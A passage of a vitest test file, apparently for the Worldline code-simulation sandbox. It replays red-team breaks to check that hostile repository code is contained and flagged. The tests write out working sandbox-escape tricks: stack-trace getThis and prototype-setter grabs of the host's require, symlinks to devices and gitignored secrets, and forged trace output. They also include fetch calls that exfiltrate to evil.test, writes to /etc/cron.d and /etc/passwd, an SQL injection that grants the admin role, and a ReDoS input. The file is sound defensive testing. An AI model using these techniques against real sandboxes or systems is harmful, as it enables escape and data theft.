import { mkdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newlyErroring, newlyFailing } from "../agent/run.js";
import { Simulate, type Scenario } from "../servers/scenarios/format.js";
import { ScenarioService } from "../servers/scenarios/service.js";
import { IO_BUILTINS, IO_PACKAGES } from "../servers/scenarios/sandbox/boundaries.js";
import { WORLDLINE_ROOT } from "../servers/scenarios/sandbox/paths.js";
import { SandboxPool } from "../servers/scenarios/sandbox/pool.js";
import { DEFAULT_LIMITS, type Limits, type RunResult, type SimulationJob, type StepSpec } from "../servers/scenarios/sandbox/protocol.js";
import { makeRepo, tempDir, writeFiles } from "./helpers/git-fixture.js";
import { stepScenario } from "./helpers/scenario-fixture.js";

/**
 * The first red team's breaks of the sandbox (B1-B9), each replayed against the real pool or the real
 * differential: the verdict is right, nothing from outside the repo reaches the result, and every run ends
 * with a stated reason. Then the second red team's breaks (N1-N11), found against the fixed sandbox: those tests
 * fail on the current code and document what still breaks.
 */

/** Text only Worldline's own package.json holds: a result that carries it read Worldline's files. */
const WORLDLINE_MARK = (JSON.parse(readFileSync(join(WORLDLINE_ROOT, "package.json"), "utf8")) as { description: string }).description.slice(0, 40);
const SECRET = "REDTEAM-GITIGNORED-SECRET";

const tmp = tempDir("worldline-redteam-");
afterAll(() => tmp.cleanup());
let n = 0;
const fresh = (name: string) => join(tmp.dir, `${name}-${n++}`);

const job = (repo: string, steps: StepSpec[], extra: Partial<SimulationJob> = {}, limits: Limits = DEFAULT_LIMITS): SimulationJob => ({
  repo,
  rev: "WORKTREE",
  env: {},
  stubs: {},
  steps,
  boundaryPackages: [...IO_BUILTINS, ...IO_PACKAGES],
  limits,
  ...extra,
});

function scenario(id: string, simulate: unknown): Scenario {
  return { id, title: id, source: [], customers: [], tags: [], entry: [], simulate: Simulate.parse(simulate), path: `scenarios/${id}.md`, prose: "" };
}

/** A repo of two commits (base, head) and the differential of one scenario over them, on the real service. */
async function differential(base: Record<string, string>, head: Record<string, string | null>, s: Scenario) {
  const dir = fresh(s.id);
  mkdirSync(dir, { recursive: true });
  makeRepo(dir, [
    { message: "base", files: { ".gitignore": ".worldline\n", ...base } },
    { message: "hostile head", files: head },
  ]);
  const service = new ScenarioService(dir);
  try {
    const pinned = await service.pin("HEAD~1", "HEAD");
    return await service.simulateDifferential(s, pinned.base, pinned.head);
  } finally {
    service.close();
  }
}

type Outcome = { expect: string; base: string; head: string };
const outcomes = (v: { expectations?: unknown[] }): Outcome[] => (v.expectations ?? []) as Outcome[];
const heads = (v: { expectations?: unknown[] }) => outcomes(v).map((e) => e.head);

const SAVE = { "src/save.ts": "export function save(n: number): number {\n  return n;\n}\n" };
const saveScenario = (id: string, extra: string[] = []) => stepScenario(id, "src/save.ts#save", [7], ["result === 7", "!effects.some((e) => e.target === 'fs#writeFileSync')", ...extra]);

describe("red team 1: every break is contained", () => {
  let pool: SandboxPool;
  beforeAll(() => {
    pool = new SandboxPool(2);
  });
  afterAll(() => pool.close());

  /** A repo on disk (worktree runs), with files, links and untracked files. */
  const repoWith = (files: Record<string, string>, links: Record<string, string> = {}, untracked: Record<string, string> = {}) => {
    const dir = fresh("pool");
    mkdirSync(dir, { recursive: true });
    makeRepo(dir, [{ message: "c", files: { ".gitignore": "node_modules\n.worldline\nconfig/secrets.json\n", ...files } }]);
    for (const [p, target] of Object.entries(links)) {
      mkdirSync(join(dir, p, ".."), { recursive: true });
      symlinkSync(target, join(dir, p));
    }
    writeFiles(dir, untracked);
    return dir;
  };
  const leaks = (r: RunResult, mark: string) => JSON.stringify(r).includes(mark);

  it("B1: no frame hands its `this` to Error.prepareStackTrace: the api cannot be found (t3)", async () => {
    const repo = repoWith({
      "src/attack.js": 'module.exports = require("sl");\n',
      "node_modules/sl/package.json": '{"name":"sl","main":"index.js"}',
      "node_modules/sl/index.js": [
        "exports.attack = function () {",
        "  var prev = Error.prepareStackTrace;",
        "  Error.prepareStackTrace = function (e, cs) { return cs; };",
        "  var cs = new Error().stack;",
        "  Error.prepareStackTrace = prev;",
        "  var found = [];",
        "  for (var i = 0; i < cs.length; i++) { var th; try { th = cs[i].getThis(); } catch (e) { th = undefined; }",
        "    if (th && typeof th === 'object') found.push(Object.keys(th).join('|')); }",
        "  return found.join(';');",
        "};",
      ].join("\n"),
    });
    const r = await pool.run(job(repo, [{ call: "src/attack.js#attack", expect: [] }]));
    expect(r.status).toBe("ok");
    expect(String(r.steps[0]?.result)).not.toMatch(/report|expectData|begin/);
  });

  it("B1: a head that rewrites the api's report and expectData is still fail, its effects in the diff (t4)", async () => {
    const head = [
      'import { writeFileSync } from "fs";',
      "async function impl(n: number): Promise<number> {",
      '  writeFileSync("/tmp/worldline-forged", String(n));',
      '  await fetch("http://evil.test/" + n);',
      "  return n;",
      "}",
      'export const save = new Function("impl", `return function save(n) {',
      "  var P = Error.prepareStackTrace; Error.prepareStackTrace = function (e, cs) { return cs; };",
      "  var cs = new Error().stack; Error.prepareStackTrace = P;",
      "  for (var i = 0; i < cs.length; i++) {",
      "    var api = cs[i].getThis();",
      '    if (api && typeof api.report === "function" && typeof api.expectData === "function" && !api.forged) {',
      "      api.forged = true;",
      "      var rep = api.report, ed = api.expectData;",
      "      api.expectData = function (k) { var p = JSON.parse(ed(k)); p.effects = []; return JSON.stringify(p); };",
      "      api.report = function () { var r = JSON.parse(rep()); r.effects = []; r.events = []; r.steps.forEach(function (s) { s.effects = [0, 0]; }); return JSON.stringify(r); };",
      "    }",
      "  }",
      "  return impl(n);",
      "}`)(impl);",
    ].join("\n");
    const s = stepScenario("b1-api", "src/save.ts#save", [7], ["result === 7", "!effects.some((e) => e.target === 'fs#writeFileSync')", "effects.filter((e) => e.target.startsWith('fetch')).length === 0"]);
    const r = await differential({ "src/save.ts": "export async function save(n: number): Promise<number> {\n  return n;\n}\n" }, { "src/save.ts": head }, s);
    expect(r.verdict.verdict).toBe("fail");
    expect(heads(r.verdict)).toEqual(["pass", "fail", "fail"]);
    const diff = JSON.stringify(r.verdict.effectsDiff);
    expect(diff).toContain("fs#writeFileSync");
    expect(diff).toContain("fetch#fetch");
  });

  it("B2: a recorder site that is not a site number injects nothing into the report (t21, t22)", async () => {
    const attack = (deferred: boolean) =>
      [
        'import { writeFileSync } from "fs";',
        "declare const __wl: any;",
        "export function save(n: number): number {",
        deferred ? "  setTimeout(() => {" : "  {",
        '    writeFileSync("/etc/cron.d/x", "evil");',
        "    for (let i = 0; i < 50001; i++) __wl.step(0);",
        "    __wl.step('],\"effects\":[],\"zz\":[0');",
        deferred ? "  }, 0);" : "  }",
        "  return n;",
        "}",
      ].join("\n");
    const [now, later] = await Promise.all([differential(SAVE, { "src/save.ts": attack(false) }, saveScenario("b2-now")), differential(SAVE, { "src/save.ts": attack(true) }, saveScenario("b2-later"))]);
    for (const r of [now, later]) {
      expect(r.verdict.verdict).toBe("fail");
      expect(r.head?.status).toBe("ok");
      expect(r.head?.effects.map((e) => e.target)).toEqual(["fs#writeFileSync"]);
      expect(JSON.stringify(r.head)).not.toContain('"zz"');
    }
  });

  it("B2: a made-up site cannot forge trace events or a fatal limit (t8)", async () => {
    const repo = repoWith({
      "src/attack.ts": [
        "declare const __wl: any;",
        "export function attack() {",
        `  __wl.step(',0,{"forged":"' + "A".repeat(1000) + '"}],[2,0,7,"x"],[9,"__proto__","__proto__"');`,
        `  __wl.step(']],"fatal":{"reason":"CPU time limit of 2000 ms reached (wall-clock time ran out first: the machine is busy)","site":0},"zz":[[0');`,
        "  __wl.enter(-1, []); __wl.ret(1.5, 'x'); __wl.val('0', 'y'); __wl.exit(1e9);",
        "  return 1;",
        "}",
      ].join("\n"),
    });
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: ["result === 1"] }]));
    expect(r.status).toBe("ok");
    expect(r.error).toBeUndefined();
    expect(r.steps[0]?.expectations[0]?.status).toBe("pass");
    expect(JSON.stringify(r.trace)).not.toContain("forged");
    expect(r.trace.every((e) => e.depth >= 0 && e.depth < 3)).toBe(true);
  });

  it("B3a: a repo file named worldline:x.js is the repo's, never a port with Worldline's files (t5)", async () => {
    const repo = repoWith({
      "package.json": JSON.stringify({ name: "victim-repo" }),
      "worldline:x.js": `exports.pkg = require("./package.json"); try { exports.mcp = JSON.stringify(require(${JSON.stringify(join(WORLDLINE_ROOT, "mcp.json"))})); } catch (e) { exports.mcpErr = String(e && e.message); }`,
      "src/attack.ts": 'export function attack() { const m = require("../worldline:x.js"); return { name: m.pkg.name, description: m.pkg.description, mcp: m.mcp }; }\n',
    });
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: [] }]));
    expect(leaks(r, WORLDLINE_MARK)).toBe(false);
    expect(leaks(r, "mcpServers")).toBe(false);
    expect(r.status).toBe("ok");
    expect((r.steps[0]?.result as { name?: string }).name).toBe("victim-repo");
  });

  it("B3b: a port's require taken through an Object.prototype setter reads none of Worldline's own files (t16)", async () => {
    const repo = repoWith({
      "src/attack.ts": [
        "export function attack() {",
        "  let portRequire: any;",
        "  const setter = new Function('grab', \"return function format(v) { Object.defineProperty(this, 'format', { value: v, writable: true, enumerable: true, configurable: true }); var w = format.caller; if (w && w.arguments) grab(w.arguments); }\")((a: any) => { portRequire = a[1]; });",
        "  Object.defineProperty(Object.prototype, 'format', { set: setter, configurable: true });",
        "  require('util');",
        "  delete (Object.prototype as any).format;",
        "  if (typeof portRequire !== 'function') return 'no port require';",
        "  const out: string[] = [];",
        "  for (const p of ['../../package.json', '../../../package.json', '../../mcp.json', '/work/main/package.json']) { try { out.push(JSON.stringify(portRequire(p))); } catch (e: any) { out.push('refused'); } }",
        "  return out.join('\\n');",
        "}",
      ].join("\n"),
    });
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: [] }]));
    expect(leaks(r, WORLDLINE_MARK)).toBe(false);
    expect(leaks(r, "mcpServers")).toBe(false);
    // Either the code never got the port's require, or its reach for Worldline's files ended the run.
    if (r.status === "error") expect(r.error?.reason).toMatch(/reached for the host/);
  });

  it("B3c: code in node_modules reads no repo file outside its package, gitignored or not (t15)", async () => {
    const repo = repoWith(
      {
        "src/attack.ts": 'export function attack() { return require("relpkg").k; }\n',
        "node_modules/relpkg/package.json": JSON.stringify({ name: "relpkg", main: "index.js" }),
        "node_modules/relpkg/index.js": 'module.exports = require("../../config/secrets.json");',
      },
      {},
      { "config/secrets.json": JSON.stringify({ k: SECRET }) },
    );
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: [] }]));
    expect(leaks(r, SECRET)).toBe(false);
    expect(r.status).toBe("error");
    expect(r.error?.reason).toMatch(/^the simulated code reached for the host: cannot load "..\/..\/config\/secrets.json"/);
  });

  it("B5: a step's args cannot be replaced through Object.prototype (t6 proto)", async () => {
    const base = { "src/save.ts": "export function save(n: number): number {\n  return n;\n}\nexport function charge(amount: number): number {\n  if (amount < 0) return -1;\n  return amount;\n}\n" };
    const head = { "src/save.ts": 'export function save(n: number): number {\n  (Object.prototype as any).args_js = "[-1]";\n  (Object.prototype as any).construct = [];\n  return n;\n}\nexport function charge(amount: number): number {\n  return amount;\n}\n' };
    const s = scenario("b5-proto", { steps: [{ call: "src/save.ts#save", args: [7], expect: ["result === 7"] }, { call: "src/save.ts#charge", args: [-5], expect: ["result === -1"] }] });
    const r = await differential(base, head, s);
    expect(r.verdict.verdict).toBe("fail");
    expect(r.head?.steps[1]?.result).toBe(-5);
  });

  it("B6: a write the step schedules with setTimeout is seen by its expectations (t6 timer)", async () => {
    const head = { "src/save.ts": 'import { writeFileSync } from "fs";\nexport function save(n: number): number {\n  setTimeout(() => writeFileSync("/etc/cron.d/x", "evil"), 0);\n  return n;\n}\n' };
    const r = await differential(SAVE, head, saveScenario("b6-timer"));
    expect(r.verdict.verdict).toBe("fail");
    expect(heads(r.verdict)).toEqual(["pass", "fail"]);
  });

  it("B6: an effect's argument past 300 characters keeps its tail (t23)", async () => {
    const mk = (tail: string) =>
      `import { Pool } from "pg";\nconst pool = new Pool();\nconst COLS = "${Array.from({ length: 40 }, (_, i) => `col${i}`).join(", ")}";\nexport function query(id: number): number {\n  pool.query("select " + COLS + " from customers where id = $1${tail}", [id]);\n  return 1;\n}\n`;
    const evil = "; update customers set role = 'admin'";
    const s = stepScenario("b6-trunc", "src/q.ts#query", [1], ["result === 1", "effects.every((e) => !/update|admin/i.test(String(e.args[0])))"]);
    const r = await differential({ "src/q.ts": mk(" and deleted_at is null".padEnd(evil.length, " ")) }, { "src/q.ts": mk(evil) }, s);
    expect(r.verdict.verdict).toBe("fail");
    expect(heads(r.verdict)).toEqual(["pass", "fail"]);
    expect(JSON.stringify(r.verdict.effectsDiff)).toContain("admin");
  });

  it("B6: a boundary call whose argument throws during stub matching is still recorded (t19)", async () => {
    const repo = repoWith({
      "src/attack.ts": [
        "export function attack() {",
        '  const opts = { get method() { if (String(new Error().stack).includes("worldline:prelude.js")) throw new Error("observed"); return "POST"; }, body: "stolen-data" };',
        '  try { fetch("https://evil.test/exfil", opts as any); } catch {}',
        "  return 1;",
        "}",
      ].join("\n"),
    });
    const r = await pool.run(
      job(repo, [{ call: "src/attack.ts#attack", expect: ["result === 1", "effects.length === 0"] }], {
        stubs: { "fetch#fetch": [{ match: { 1: { method: "POST" } }, returns: { ok: true } }, { returns: { ok: false } }] },
      }),
    );
    expect(r.status).toBe("ok");
    expect(r.effects.map((e) => e.target)).toEqual(["fetch#fetch"]);
    expect(r.steps[0]?.expectations.map((e) => e.status)).toEqual(["pass", "fail"]);
  });

  it("B7: touching an unanswered boundary elsewhere does not turn a certain fail into at-risk (t6 taint)", async () => {
    const head = { "src/save.ts": 'import { hostname } from "os";\nexport function save(n: number): number {\n  void String(hostname());\n  return n + 1;\n}\n' };
    const r = await differential(SAVE, head, stepScenario("b7-taint", "src/save.ts#save", [7], ["result === 7"]));
    expect(r.verdict.verdict).toBe("fail");
  });

  it("B8: an error named valueOf is checked, and the report is kept (t18)", async () => {
    const repo = repoWith({ "src/attack.ts": 'export function attack() { const e = new Error("x"); e.name = "valueOf"; return e; }\n' });
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: ["result === 1", "result.name === 'valueOf'", "result.message === 'x'"] }]));
    expect(r.status).toBe("ok");
    expect(r.steps[0]?.expectations.map((e) => e.status)).toEqual(["fail", "pass", "pass"]);
  });

  it("B9b: Atomics.wait cannot stretch a run past its CPU budget by sleeping (t12)", { timeout: 30_000 }, async () => {
    const repo = repoWith({ "src/attack.ts": "export function attack() {\n  const ia = new Int32Array(new SharedArrayBuffer(4));\n  Atomics.wait(ia, 0, 0, 1e7);\n  let x = 0;\n  for (;;) x++;\n}\n" });
    const t = Date.now();
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: [] }], {}, { ...DEFAULT_LIMITS, cpuMs: 300 }));
    expect(r.status).toBe("error");
    expect(r.error?.reason).toMatch(/^CPU time limit of 300 ms reached/);
    expect(r.error?.reason).not.toMatch(/machine is busy/);
    expect(Date.now() - t).toBeLessThan(6000);
  });

  it("B9d: a run's result is bounded in size, its trace cut and counted (t10, t11)", async () => {
    // 200 trace values of about 120 KB each: some 24 M characters of trace, more than any result may carry.
    const repo = repoWith({
      "src/attack.ts": 'export function attack() {\n  const row = Array.from({ length: 20 }, (_, i) => String(i).padEnd(300, "x"));\n  for (let i = 0; i < 200; i++) {\n    const big = Array.from({ length: 20 }, () => row);\n    void big;\n  }\n  return 1;\n}\n',
    });
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: ["result === 1"] }]));
    expect(JSON.stringify(r).length).toBeLessThanOrEqual(16_000_000);
    expect(r.status).toBe("ok");
    expect(r.truncated).toBeGreaterThan(0);
    expect(r.steps[0]?.expectations[0]?.status).toBe("pass");
  });
});

describe("red team 1: selection and the unaffected verdict see what a change alters (B4)", () => {
  it("B4 comment: `/**/ code` and a `* 0;` continuation are code, not comments (t7 comment)", async () => {
    const base = { "src/save.ts": 'import { writeFileSync } from "fs";\nexport function save(n: number): number {\n  const total = n\n    * 1;\n  return total;\n}\n' };
    const head = { "src/save.ts": 'import { writeFileSync } from "fs";\nexport function save(n: number): number {\n  /**/ writeFileSync("/etc/passwd", "x");\n  const total = n\n    * 0;\n  return total;\n}\n' };
    const r = await differential(base, head, saveScenario("b4-comment"));
    expect(r.verdict.verdict).toBe("fail");
    expect(heads(r.verdict)).toEqual(["fail", "fail"]);
  });

  it("B4 shadow: a new src/calc.ts that wins the resolution of ./calc is seen (t7 shadow)", async () => {
    const base = { "src/save.ts": 'import { calc } from "./calc";\nexport function save(n: number): number {\n  return calc(n);\n}\n', "src/calc/index.ts": "export function calc(n: number): number {\n  return n;\n}\n" };
    const head = { "src/calc.ts": 'import { writeFileSync } from "fs";\nexport function calc(n: number): number {\n  writeFileSync("/etc/passwd", "x");\n  return 0;\n}\n' };
    const r = await differential(base, head, saveScenario("b4-shadow"));
    expect(r.verdict.verdict).toBe("fail");
    expect(heads(r.verdict)).toEqual(["fail", "fail"]);
  });
});

describe("red team 1: a child stuck outside the isolate, and host-side loading, are bounded (B9a, B9c)", () => {
  // One pool per test: a child stuck in one must not hold up the other.
  const pools: SandboxPool[] = [];
  const ownPool = () => {
    const p = new SandboxPool(1);
    pools.push(p);
    return p;
  };
  afterAll(() => pools.forEach((p) => p.close()));

  it("B9a: a package.json linked to /dev/ptmx does not block the child (t13)", { timeout: 30_000 }, async () => {
    const dir = fresh("ptmx");
    mkdirSync(dir, { recursive: true });
    makeRepo(dir, [{ message: "c", files: { ".gitignore": "node_modules\n.worldline\n", "src/attack.ts": 'export function attack() { return require("evil"); }\n' } }]);
    writeFiles(dir, { "node_modules/evil/index.js": "module.exports = 1;\n" });
    symlinkSync("/dev/ptmx", join(dir, "node_modules/evil/package.json"));
    const t = Date.now();
    const r = await ownPool().run(job(dir, [{ call: "src/attack.ts#attack", expect: ["result === 1"] }], {}, { ...DEFAULT_LIMITS, cpuMs: 200 }));
    expect(Date.now() - t).toBeLessThan(20_000);
    // Not a regular file inside the repo: the package.json is not read, the package loads by its index.js.
    expect(r.status).toBe("ok");
    expect(r.steps[0]?.expectations[0]?.status).toBe("pass");
  });

  // The run's own limit is 5 s of CPU; the wall-clock guard of the test leaves room for a loaded machine.
  it("B9c: endless costly module resolution ends the run, with its reason (t20)", { timeout: 120_000 }, async () => {
    // 20,000 tsconfig path patterns of 10 targets each: every bare request tries 200,000 candidates on the host.
    const paths: Record<string, string[]> = {};
    for (let i = 0; i < 20_000; i++) paths[`p${i}/*`] = Array.from({ length: 10 }, (_, j) => `t${i}_${j}/*`);
    const dir = fresh("paths");
    mkdirSync(dir, { recursive: true });
    makeRepo(dir, [{ message: "c", files: { "tsconfig.json": JSON.stringify({ compilerOptions: { baseUrl: ".", paths } }), "src/attack.ts": 'export function attack() { let n = 0; for (;;) { require("zz" + n); n++; } }\n' } }]);
    const t = Date.now();
    const r = await ownPool().run(job(dir, [{ call: "src/attack.ts#attack", expect: [] }], {}, { ...DEFAULT_LIMITS, cpuMs: 5000 }));
    expect(r.status).toBe("error");
    expect(r.error?.reason).toMatch(/loading modules took more than 30 s|CPU time limit/);
    expect(Date.now() - t).toBeLessThan(50_000);
  });

  it("N10: one costly load (a quadratic scan of a package file) does not hold the child", { timeout: 60_000 }, async () => {
    // isEsm's /^\s*(import\s[\s\S]*?from\s|export\s)/m on 200,000 lines of `import x`: minutes of host time in one load call.
    const dir = fresh("esm-scan");
    mkdirSync(dir, { recursive: true });
    makeRepo(dir, [{ message: "c", files: { ".gitignore": "node_modules\n.worldline\n", "src/attack.ts": 'export function attack() { return require("slow"); }\n' } }]);
    writeFiles(dir, { "node_modules/slow/package.json": JSON.stringify({ name: "slow", main: "index.js" }), "node_modules/slow/index.js": "import x\n".repeat(200_000) });
    const t = Date.now();
    const r = await Promise.race([ownPool().run(job(dir, [{ call: "src/attack.ts#attack", expect: [] }], {}, { ...DEFAULT_LIMITS, cpuMs: 100 })), new Promise<"still running">((res) => setTimeout(() => res("still running"), 40_000))]);
    expect(r).not.toBe("still running");
    expect(Date.now() - t).toBeLessThan(40_000);
    // The scan is linear now: the load finishes (as it would in Node) instead of holding the child.
    expect((r as RunResult).status === "ok" || /loading modules took more than 30 s/.test((r as RunResult).error?.reason ?? "")).toBe(true);
  });
});

describe("red team 2: the record and the verdict against the fixed sandbox", () => {
  let pool: SandboxPool;
  beforeAll(() => {
    pool = new SandboxPool(2);
  });
  afterAll(() => pool.close());

  const W = 'import { writeFileSync } from "fs";\n';
  const withSave = (body: string) => ({ "src/save.ts": `${W}export function save(n: number): any {\n${body}\n}\nexport function other(n: number): number {\n  return n;\n}\n` });
  const BASE2 = withSave("  return n;");
  const noWrite = "!effects.some((e) => e.target === 'fs#writeFileSync')";

  it("N1: a head that throws from a timer cannot pick its own error reason and slip past the gate", async () => {
    // The run ends error with whatever message the code threw, and loses its effects: the gate's list of head-code
    // errors does not match "the simulation pool is closed", so `check` would let the change through.
    const head = withSave('  writeFileSync("/etc/cron.d/x", "evil");\n  setTimeout(() => { throw new Error("the simulation pool is closed"); }, 0);\n  return n + 1;');
    const r = await differential(BASE2, head, stepScenario("n1-reason", "src/save.ts#save", [7], ["result === 7", noWrite]));
    expect(newlyFailing(r.verdict) || newlyErroring(r.verdict)).toBe(true);
    if (r.verdict.verdict === "error") expect(r.verdict.reason).not.toBe("the simulation could not run on head: the simulation pool is closed");
  });

  it("N2: an argument whose getPrototypeOf trap throws does not erase the boundary call", async () => {
    const repo = fresh("n2");
    mkdirSync(repo, { recursive: true });
    makeRepo(repo, [
      {
        message: "c",
        files: {
          "src/attack.ts": 'export function attack() {\n  try { fetch("https://evil.test/exfil?d=secret", new Proxy({ method: "POST" }, { getPrototypeOf() { throw new Error("x"); } }) as any); } catch {}\n  return 1;\n}\n',
        },
      },
    ]);
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: ["result === 1", "effects.length === 0"] }]));
    expect(r.effects.map((e) => e.target)).toEqual(["fetch#fetch"]);
    expect(r.steps[0]?.expectations.map((e) => e.status)).toEqual(["pass", "fail"]);
  });

  // Effects are copied to 64 KB per string, 500 items, 200 keys and 6 levels: past any of them the part that
  // differs is cut on both sides, so neither the expectations nor the effects diff can see it.
  const PG = 'import { Pool } from "pg";\nconst pool = new Pool();\n';
  const query = (call: string) => ({ "src/q.ts": `${PG}export function q(n: number): number {\n  ${call};\n  return n;\n}\n` });
  const noAdmin = stepScenario("n3", "src/q.ts#q", [7], ["result === 7", "!JSON.stringify(effects).includes('admin')"]);
  it.each([
    ["a string past 64 KB", (who: string) => `pool.query("select 1" + " ".repeat(70000) + "; update customers set role = '${who}'")`],
    ["an argument nested 7 levels deep", (who: string) => `pool.query("insert", [{ a: { b: { c: { d: { e: { role: "${who}" } } } } } }])`],
    ["item 501 of an array", (who: string) => `pool.query("insert", [...Array(500).fill(0), "${who}"])`],
    ["key 201 of an object", (who: string) => `pool.query("insert", Object.fromEntries([...Array.from({ length: 200 }, (_, i) => ["k" + i, 0]), ["role", "${who}"]]))`],
  ])("N3: an effect's argument that differs only in %s is still seen", async (_what, call) => {
    const r = await differential(query(call("guest")), query(call("admin")), noAdmin);
    expect(r.verdict.verdict).toBe("fail");
  });

  it.each([
    ["after 1000 other timers", "  for (let i = 0; i < 1000; i++) setTimeout(() => {}, 0);\n  setTimeout(() => writeFileSync(\"/etc/cron.d/x\", \"evil\"), 0);\n  return n;"],
    ["behind a 1 ms interval", "  setInterval(() => {}, 1);\n  setTimeout(() => writeFileSync(\"/etc/cron.d/x\", \"evil\"), 5000);\n  return n;"],
  ])("N4: a write the last step schedules %s is seen by its expectations", async (_what, body) => {
    const r = await differential(BASE2, withSave(body), stepScenario("n4", "src/save.ts#save", [7], ["result === 7", noWrite]));
    expect(r.verdict.verdict, r.verdict.reason).toBe("fail");
  });

  it("N4: two pollers in two steps do not add up to the interval-only cap and hide a write (red team, this session)", async () => {
    // Step 1 polls 1990 rounds, then clears its interval; step 2's flush writes on its 20th round. A count kept
    // across the empty queue stopped the flush at 2000 rounds in all and hid the write on head: a false pass.
    const poll = "export function waitReady(ms: number): Promise<string> {\n  const until = Date.now() + ms;\n  return new Promise((res) => {\n    const id = setInterval(() => {\n      if (Date.now() >= until) {\n        clearInterval(id);\n        res(\"ready\");\n      }\n    }, 1);\n  });\n}\n";
    const flush = (write: string) => ({ "src/flush.ts": `${W}${poll}export function save(): string {\n  let rounds = 0;\n  const id = setInterval(() => {\n    if (++rounds < 20) return;\n    clearInterval(id);\n${write}\n  }, 100);\n  return "queued";\n}\n` });
    const s = scenario("n4-pollers", { steps: [{ call: "src/flush.ts#waitReady", args: [1990], expect: ['result === "ready"'] }, { call: "src/flush.ts#save", args: [], expect: ['result === "queued"', noWrite] }] });
    const r = await differential(flush("    void 0;"), flush('    writeFileSync("/etc/cron.d/x", "evil");'), s);
    expect(r.verdict.verdict, r.verdict.reason).toBe("fail");
  });

  it("N4: repo code cannot put its own errors on another step's scenario lines through the recorder's exit (red team, this session)", async () => {
    // One statement: its step sets the site, then a forged exit names step 2's call line (-4), then the throw.
    // Only the running step's own lines are accepted as a caller: the function's real caller is one of them.
    const head = withSave('  throw ((__wl as any).exit(0, -4), new Error("boom"));');
    const r = await differential(BASE2, head, stepScenario("n4-forged", "src/save.ts#save", [7], ["result === 7"]));
    const at = r.head?.steps[0]?.error?.at ?? "";
    expect(at, JSON.stringify(r.head?.steps[0]?.error)).toMatch(/^src\/save\.ts:\d+$/);
  });

  it("N4: a write a first step schedules is seen by that step's expectations", async () => {
    const s = scenario("n4-first", { steps: [{ call: "src/save.ts#save", args: [7], expect: ["result === 7", noWrite] }, { call: "src/save.ts#other", args: [1], expect: ["result === 1"] }] });
    const r = await differential(BASE2, withSave('  setTimeout(() => writeFileSync("/etc/cron.d/x", "evil"), 0);\n  return n;'), s);
    expect(r.verdict.verdict).toBe("fail");
  });

  it.each([
    ["NaN", "  return NaN;"],
    ["a string holding ⟨", '  return { value: n + 1, note: "⟨" };'],
    ["an object with a $symbolic key", '  return { value: n + 1, $symbolic: "x" };'],
  ])("N5: a head whose result is %s cannot turn its certain fail into at-risk", async (_what, body) => {
    const r = await differential(BASE2, withSave(body), stepScenario("n5", "src/save.ts#save", [7], ["result === 7 || result.value === 7"]));
    expect(r.verdict.verdict).toBe("fail");
  });

  it("N5: an uncertain first failure does not hide a certain one after it", async () => {
    // The effects expectation fails for certain (the write happened); the result one only reads a symbolic value.
    const head = withSave('  writeFileSync("/etc/cron.d/x", "evil");\n  return require("os").hostname();');
    const r = await differential(BASE2, head, stepScenario("n5-mask", "src/save.ts#save", [7], ["result === 7", noWrite]));
    expect(outcomes(r.verdict).find((e) => e.expect === noWrite)?.head).toBe("fail");
    expect(r.verdict.verdict).toBe("fail");
  });

  it("N11: recording a head's effects does not stall the server on strings made for the redaction rules", { timeout: 60_000 }, async () => {
    // The email rule (\b[A-Za-z0-9._%+-]+@…) is quadratic on a run of word characters and dots with no @: about
    // ten seconds per 64 KB effect argument, synchronously, in the server. A result may carry a hundred of them.
    const head = withSave('  writeFileSync("/tmp/log", Array(3).fill("x.".repeat(32000) + "token"));\n  return n;');
    const t = Date.now();
    const r = await differential(BASE2, head, stepScenario("n11-redos", "src/save.ts#save", [7], ["result === 7"]));
    expect(r.head?.effects.length).toBe(1);
    expect(Date.now() - t).toBeLessThan(15_000);
  });

  it("N7: a package folder linked to a repo folder reads no gitignored file through it", async () => {
    const repo = fresh("n7");
    mkdirSync(repo, { recursive: true });
    makeRepo(repo, [{ message: "c", files: { ".gitignore": ".worldline\nconfig/secrets.json\n", "src/attack.ts": 'export function viaFolder() { return require("cfg/secrets.json"); }\nexport function viaRoot() { return require("self/config/secrets.json"); }\n' } }]);
    writeFiles(repo, { "config/secrets.json": JSON.stringify({ k: SECRET }) });
    // What a pull request can commit: symlinks in node_modules (git stores them), pointing inside the repo.
    mkdirSync(join(repo, "node_modules"), { recursive: true });
    symlinkSync("../config", join(repo, "node_modules/cfg"));
    symlinkSync("..", join(repo, "node_modules/self"));
    const runs = await Promise.all(["viaFolder", "viaRoot"].map((f) => pool.run(job(repo, [{ call: `src/attack.ts#${f}`, expect: [] }]))));
    for (const r of runs) expect(JSON.stringify(r).includes(SECRET)).toBe(false);
  });

  it("N8: the port's require, taken through a sloppy port frame, reads nothing of Worldline's but its packages", async () => {
    const repo = fresh("n8");
    mkdirSync(repo, { recursive: true });
    makeRepo(repo, [
      {
        message: "c",
        files: {
          "src/attack.ts": [
            "export function attack() {",
            "  let portRequire: any;",
            "  const setter = new Function('grab', \"return function format(v) { Object.defineProperty(this, 'format', { value: v, writable: true, enumerable: true, configurable: true }); var w = format.caller; if (w && w.arguments) grab(w.arguments); }\")((a: any) => { portRequire = a[1]; });",
            "  Object.defineProperty(Object.prototype, 'format', { set: setter, configurable: true });",
            "  require('util');",
            "  delete (Object.prototype as any).format;",
            "  if (typeof portRequire !== 'function') return 'no port require';",
            "  try { return JSON.stringify(portRequire('../.package-lock.json')).slice(0, 200); } catch (e: any) { return 'refused'; }",
            "}",
          ].join("\n"),
        },
      },
    ]);
    const r = await pool.run(job(repo, [{ call: "src/attack.ts#attack", expect: [] }]));
    // Worldline's own lockfile (node_modules/.package-lock.json) is no installed package.
    expect(JSON.stringify(r)).not.toContain("lockfileVersion");
  });
});

describe("red team 2: selection and the unaffected verdict see every change that alters a run", () => {
  const W = 'import { writeFileSync } from "fs";\n';
  /** Base and head of a repo with one scenario file; what select and simulateDifferential say, and the head's own run. */
  async function selection(base: Record<string, string>, head: Record<string, string | null>, steps: unknown[]) {
    const dir = fresh("sel");
